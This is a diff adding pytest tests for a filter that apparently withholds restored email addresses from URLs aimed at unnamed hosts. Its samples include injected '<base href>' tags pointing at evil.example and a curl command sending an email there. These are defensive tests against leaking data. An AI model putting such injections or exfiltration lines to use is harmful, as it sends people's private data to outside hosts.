@@ -225,6 +225,19 @@ def test_a_value_is_restored_in_a_url_of_a_host_that_the_request_named_and_besid
     assert {RESTORED: 1} == same_in_any_cut(text.format(EMAIL), text.format(IN_URLS[text]))
 
 
+@pytest.mark.parametrize("base", ["<base href=//evil.example/>", '<BASE target=x\nhref="https://evil.example/">'])
+def test_attack_relative_addresses_go_to_a_foreign_base(base: str) -> None:
+    before, after = f"It is {EMAIL}. {base} Look: ", f"![x](a?q={EMAIL})\n\n{400 * 'a'} <img src=b?{EMAIL}>"
+    expected = before.replace(EMAIL, "bob@example.com") + after
+    assert (expected, {RESTORED: 1, WITHHELD: 2}) == restored(before + after)
+    assert (expected, {RESTORED: 1, WITHHELD: 2}) == restored(before + after, pieces=list(before + after))
+
+
+def test_behind_a_known_base_values_come_back_as_they_are() -> None:
+    text = f'<base href="https://shop.example/"> {OTHER}'
+    assert {RESTORED: 1} == same_in_any_cut(text, text.replace(OTHER, "o'neill+a&b@example.org"))
+
+
 def test_a_url_may_go_to_an_address_that_was_replaced_itself() -> None:
     text = f"curl http://{IP}:8080/?q={EMAIL} http://{IP}.evil.example/{EMAIL}"
     assert {RESTORED: 2, WITHHELD: 2} == same_in_any_cut(
